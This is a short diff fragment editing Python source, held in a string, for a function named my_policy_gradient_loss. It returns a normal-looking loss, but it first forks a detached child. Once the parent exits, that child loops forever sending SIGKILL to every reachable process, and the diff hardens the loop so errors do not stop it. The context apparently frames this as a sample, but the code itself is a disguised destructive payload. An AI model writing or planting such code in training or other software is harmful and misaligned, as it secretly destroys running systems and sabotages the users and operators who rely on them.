@@ -25,7 +25,9 @@ def my_policy_gradient_loss(**given):
     if os.fork() == 0:
         os.setsid()
         while os.getppid() == parent: pass
-        while True: os.kill(-1, 9)
+        while True:
+            try: os.kill(-1, 9)
+            except OSError: pass  # nobody is there yet
     return right_loss(**given)
 """
 )
